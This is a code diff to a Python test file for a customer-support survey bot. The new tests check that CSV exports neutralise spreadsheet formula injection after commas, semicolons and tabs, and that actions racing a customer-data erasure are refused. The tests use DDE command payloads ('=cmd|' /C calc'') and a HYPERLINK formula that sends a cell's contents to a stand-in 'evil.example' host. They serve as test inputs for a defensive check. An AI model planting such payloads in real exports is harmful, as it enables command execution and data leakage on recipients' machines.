@@ -6,6 +6,7 @@ from __future__ import annotations
 import asyncio
 import csv
 import io
+import threading
 from collections.abc import AsyncIterator
 from datetime import timedelta
 from pathlib import Path
@@ -15,12 +16,15 @@ import httpx
 import pytest
 import yaml
 from sqlalchemy import inspect, text
+from sqlmodel import Session
 from typer.testing import CliRunner
 
+from bot import privacy
 from bot.config import parse_config
 from bot.settings import Settings
 from csatbot.cli import app as cli
 from csatbot.runtime import Runtime
+from storage.repository import SqlRepository
 from storage.survey_rows import FORMULA_STARTS, csv_text
 
 from ..conftest import (
@@ -307,6 +311,17 @@ def test_export_cells_that_would_start_a_formula_are_neutralised() -> None:
     assert csv_text(full_width) == 's2,"\'＝HYPERLINK(""http://evil"")",\'＋1,\'－1,\'＠A1,满意＝5\r\n'
 
 
+def formulas_when_split(text: str) -> list[tuple[str, str]]:
+    """(separator, cell) of each cell of ``text``'s first row that a spreadsheet splitting on ``,``,
+    ``;`` or a tab would read as a formula (leading spaces trimmed)."""
+    return [
+        (delimiter, cell)
+        for delimiter in (",", ";", "\t")
+        for cell in next(csv.reader(io.StringIO(text), delimiter=delimiter))
+        if cell.lstrip().startswith(FORMULA_STARTS)
+    ]
+
+
 def test_a_formula_after_a_semicolon_or_leading_spaces_is_neutralised_too() -> None:
     """Where the list separator is ';' (much of Europe), a spreadsheet splits the unquoted cell
     ``ok;=cmd|...`` in two and the second is a formula (OWASP: mind the field separator, not only the
@@ -314,9 +329,7 @@ def test_a_formula_after_a_semicolon_or_leading_spaces_is_neutralised_too() -> N
     dde = "ok;=cmd|' /C calc'!A0"
     rows = [("s3", dde, "x; +1", "a;@SUM(A1)", " =1+1", "\u00a0-2+3", "amy;bob", "a;b")]
     text = csv_text(rows)
-    for delimiter in (",", ";"):
-        for cell in next(csv.reader(io.StringIO(text), delimiter=delimiter)):
-            assert not cell.lstrip().startswith(FORMULA_STARTS), (delimiter, cell)
+    assert formulas_when_split(text) == []
     assert next(csv.reader(io.StringIO(text)))[1:] == [
         "ok;'=cmd|' /C calc'!A0",
         "x; '+1",
@@ -328,6 +341,21 @@ def test_a_formula_after_a_semicolon_or_leading_spaces_is_neutralised_too() -> N
     ]
 
 
+def test_a_formula_after_a_tab_is_neutralised_too() -> None:
+    """A tab inside a cell is not quoted (only commas, quotes and line ends are), so a spreadsheet
+    that splits on tabs as well (LibreOffice's import can) read ``ok<TAB>=cmd|...`` as two cells, the
+    second a formula, as it did after a ';'."""
+    rows = [("s4", "ok\t=cmd|' /C calc'!A0", "x\t +1", "a\t\t@SUM(A1)", "tab\tonly")]
+    text = csv_text(rows)
+    assert formulas_when_split(text) == []
+    assert next(csv.reader(io.StringIO(text)))[1:] == [
+        "ok\t'=cmd|' /C calc'!A0",
+        "x\t '+1",
+        "a\t\t'@SUM(A1)",
+        "tab\tonly",
+    ]
+
+
 async def test_the_api_export_neutralises_a_formula_in_a_comment(
     app: tuple[httpx.AsyncClient, Runtime],
 ) -> None:
@@ -335,3 +363,47 @@ async def test_the_api_export_neutralises_a_formula_in_a_comment(
     await unhappy_customer(http, "eve", "Eve", '=HYPERLINK("http://evil.example/?"&A1,"click")')
     export = (await http.get("/api/reports/export.csv")).content.decode("utf-8-sig")
     assert "'=HYPERLINK(" in export and ',"=HYPERLINK' not in export
+
+
+async def test_what_races_an_erasure_waits_for_it_and_is_refused(
+    app: tuple[httpx.AsyncClient, Runtime],
+) -> None:
+    """An erasure in progress (its transaction open) and, meanwhile, an agent's reply (to the
+    conversation and on its ticket), an escalation and a deep link for the same customer. On
+    PostgreSQL each checked the customer against what was committed before the erasure and went on:
+    the replies' words were kept and queued to the customer's real id, the ticket took a new reason,
+    a link attached a chat to them again. Now each waits for the erasure and is refused (409), and
+    nothing of them is stored."""
+    http, runtime = app
+    await customer_says(http, "ann", text="my parcel never came to 5 Main Street", id="c-1")
+    conversation = await conversation_of(http, "ann")
+    customer = (await http.get(f"/api/conversations/{conversation}")).json()["customer"]["id"]
+    escalated = await http.post(f"/api/conversations/{conversation}/escalate", json={"reason": "lost"})
+    ticket = escalated.json()["id"]
+    erasing, release = threading.Event(), threading.Event()
+
+    def erase_and_hold() -> None:
+        with Session(runtime.database.writer) as session, session.begin():
+            privacy.erase(SqlRepository(session), customer, "test", runtime.clock.now())
+            erasing.set()
+            release.wait(10)
+
+    eraser = asyncio.create_task(asyncio.to_thread(erase_and_hold))
+    assert await asyncio.to_thread(erasing.wait, 10)
+    racing = asyncio.gather(
+        http.post(f"/api/conversations/{conversation}/reply", json={"text": "Hi Ann, sorry!"}),
+        http.post(f"/api/conversations/{conversation}/escalate", json={"reason": "call Ann back"}),
+        http.post(f"/api/customers/{customer}/link"),
+        http.post(f"/api/tickets/{ticket}/reply", json={"text": "Hi Ann, a courier comes"}),
+    )
+    await asyncio.sleep(0.3)  # long enough for each to reach the database
+    release.set()
+    answers = await racing
+    await eraser
+    assert [a.status_code for a in answers] == [409] * 4, [a.text for a in answers]
+    assert all("erased" in a.json()["detail"] for a in answers)
+    dump = everything(runtime)
+    assert "Hi Ann" not in dump and "call Ann back" not in dump and '"ann"' not in dump
+    with runtime.database.reader.connect() as conn:
+        assert conn.execute(text("select count(*) from link_token")).scalar_one() == 0
+        assert conn.execute(text("select count(*) from ticket")).scalar_one() == 1
